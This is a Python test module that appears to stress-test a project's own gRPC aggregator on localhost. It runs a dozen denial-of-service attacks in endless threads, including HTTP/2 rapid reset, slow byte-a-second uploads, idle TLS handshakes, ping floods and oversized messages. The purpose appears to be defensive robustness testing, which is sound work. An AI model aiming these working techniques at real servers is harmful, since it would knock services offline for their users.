"""A program that is hostile to an aggregator, with no certificate or with one silo's: `python -m hostile.attacks NAME
PORT FOLDER`, where FOLDER has the silo's certificate. It goes on until it is killed.
"""

import itertools
import random
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from threading import Thread
from typing import Any

import grpc
from h2.connection import H2Connection
from h2.events import StreamReset

from crypto.encoding.wire import MESSAGE_LIMIT, encode
from silo_agent.network.services import IDENTITY, ROUNDS, WORDS
from sparsilo.v1 import identity_pb2, words_pb2

THREADS = 8


@dataclass(frozen=True)
class Target:
    """An aggregator on this machine, and a silo's way into it."""

    port: int
    folder: Path

    def tcp(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), 20)

    def http2(self) -> "HTTP2":
        return HTTP2(self)

    def channel(self) -> grpc.Channel:
        key, certificate, authority = ((self.folder / name).read_bytes() for name in ("tls.key", "tls.crt", "ca.crt"))
        options = (("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1))
        credentials = grpc.ssl_channel_credentials(authority, key, certificate)
        return grpc.secure_channel(f"localhost:{self.port}", credentials, options)


class HTTP2:
    """A connection that follows the protocol as far as an attack wants it to."""

    def __init__(self, target: Target) -> None:
        context = ssl.create_default_context(cafile=str(target.folder / "ca.crt"))
        context.load_cert_chain(target.folder / "tls.crt", target.folder / "tls.key")
        context.set_alpn_protocols(["h2"])
        self.tls = context.wrap_socket(target.tcp(), server_hostname="localhost")
        self.h2 = H2Connection()
        self.h2.initiate_connection()
        self.flush()

    def flush(self) -> None:
        self.tls.sendall(self.h2.data_to_send())

    def ask(self, method: str) -> int:
        """Begin a call, and return the number of its stream."""
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(
            stream,
            [
                (":method", "POST"),
                (":scheme", "https"),
                (":path", f"/{method}"),
                (":authority", "localhost"),
                ("te", "trailers"),
                ("content-type", "application/grpc"),
            ],
        )
        return stream

    def send(self, stream: int, data: bytes) -> None:
        """All of it, as the other side makes room for it. Raises OSError where it ends the call."""
        while data:
            room = min(self.h2.local_flow_control_window(stream), self.h2.max_outbound_frame_size, len(data))
            if not room:
                self.hear()
                continue
            self.h2.send_data(stream, data[:room])
            self.flush()
            data = data[room:]

    def hear(self) -> None:
        """What the other side says, which is not answered. Raises OSError where that is the end."""
        data = self.tls.recv(1 << 16)
        if not data or any(isinstance(event, StreamReset) for event in self.h2.receive_data(data)):
            raise ConnectionError("the aggregator ended it")
        self.flush()

    def wait(self) -> None:
        while True:
            self.hear()


def message(length: int) -> bytes:
    """The beginning of a gRPC message of so many bytes."""
    return b"\0" + length.to_bytes(4, "big")


# Without a certificate.


def plain_connects(target: Target) -> None:
    """3 000 connections that close at once, and then more."""
    target.tcp().close()


def idle_handshakes(target: Target) -> None:
    """2 000 connections that say nothing, or a byte of a handshake a second."""
    held = [connection for _ in range(2000 // THREADS) if (connection := _tried(target.tcp))]
    for _ in range(30):
        for connection in held[::2]:
            with suppress(OSError):
                connection.sendall(b"\x16")
        time.sleep(1)
    for connection in held:
        connection.close()


def random_bytes(target: Target) -> None:
    """Noise in place of a handshake."""
    with target.tcp() as connection:
        connection.sendall(random.randbytes(random.randrange(1, 5000)))


# With a silo's certificate.


def rapid_reset(target: Target) -> None:
    """Calls that are taken back at once, as many as the connection carries."""
    connection = target.http2()
    while True:
        for _ in range(100):
            connection.h2.reset_stream(connection.ask(f"{ROUNDS}/Next"))
        connection.flush()
        connection.tls.settimeout(0.001)
        with suppress(TimeoutError):
            connection.hear()
        connection.tls.settimeout(20)


def pings(target: Target) -> None:
    connection = target.http2()
    while True:
        connection.h2.ping(bytes(8))
        connection.flush()


def endless_upload(target: Target) -> None:
    """Chunks of no round, one after another."""
    chunk = encode(words_pb2.WordChunk(round=bytes(32), index=1, words=bytes(1 << 20)))
    with target.channel() as channel:
        channel.stream_unary(f"/{WORDS}/Upload")(itertools.repeat(chunk))


def trickle(target: Target) -> None:
    """An upload of a byte a second."""
    connection = target.http2()
    stream = connection.ask(f"{WORDS}/Upload")
    connection.send(stream, message(1 << 20))
    while True:
        connection.send(stream, b"\0")
        time.sleep(1)


def audit_for_ever(target: Target) -> None:
    """Chunks of no round, asked for again and again."""
    with target.channel() as channel:
        asked = encode(words_pb2.CommittedRequest(round=bytes(32), index=1))
        list(channel.unary_stream(f"/{WORDS}/Committed")(asked))


def streams_never_read(target: Target) -> None:
    """As many calls as there can be, whose answers are not read."""
    connection = target.http2()
    for _ in range(8):
        stream = connection.ask(f"{WORDS}/File")
        asked = encode(words_pb2.FileRequest(transcript=bytes(32)))
        connection.send(stream, message(len(asked)) + asked)
    time.sleep(60)


def huge_messages(target: Target) -> None:
    """64 MiB in one message."""
    with target.channel() as channel:
        channel.unary_unary(f"/{ROUNDS}/Advance")(bytes(64 << 20), timeout=20)


def waiting_calls(target: Target) -> None:
    """25 connections a thread, each with calls of 8 MiB that lack the last byte."""
    held = [target.http2() for _ in range(25)]
    for connection in held:
        for _ in range(8):
            with suppress(OSError, KeyError):
                stream = connection.ask(f"{ROUNDS}/Advance")
                connection.send(stream, message(MESSAGE_LIMIT) + bytes(MESSAGE_LIMIT - 1))
    time.sleep(60)


def identity_calls(target: Target) -> None:
    """The roster, as fast as it comes, and announcements that nobody signed."""
    with target.channel() as channel:
        roster, announce = (channel.unary_unary(f"/{IDENTITY}/{name}") for name in ("Roster", "Announce"))
        for _ in range(1000):
            for call, asked in ((roster, b""), (announce, encode(identity_pb2.AnnounceRequest(signature=bytes(64))))):
                with suppress(grpc.RpcError):
                    call(asked, timeout=20)


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        *(plain_connects, idle_handshakes, random_bytes),
        *(rapid_reset, pings, endless_upload, trickle, audit_for_ever, streams_never_read, huge_messages),
        *(waiting_calls, identity_calls),
    )
}
UNNAMED = ("plain_connects", "idle_handshakes", "random_bytes", "pings")
"""Whose caller the library does not tell: they make no call."""


def _tried(connect: Callable[[], Any]) -> Any:
    with suppress(OSError):
        return connect()


def attack_for_ever(attack: Callable[[Target], None], target: Target) -> None:
    while True:
        with suppress(OSError, grpc.RpcError, Exception):  # whatever the aggregator does to it, it comes again
            attack(target)


def threads(attack: Callable[[Target], None], target: Target) -> Iterator[Thread]:
    for _ in range(THREADS):
        yield Thread(target=attack_for_ever, args=(attack, target), daemon=True)


if __name__ == "__main__":
    name, port, folder = sys.argv[1:]
    for thread in threads(ATTACKS[name], Target(int(port), Path(folder))):
        thread.start()
    time.sleep(24 * 3600)
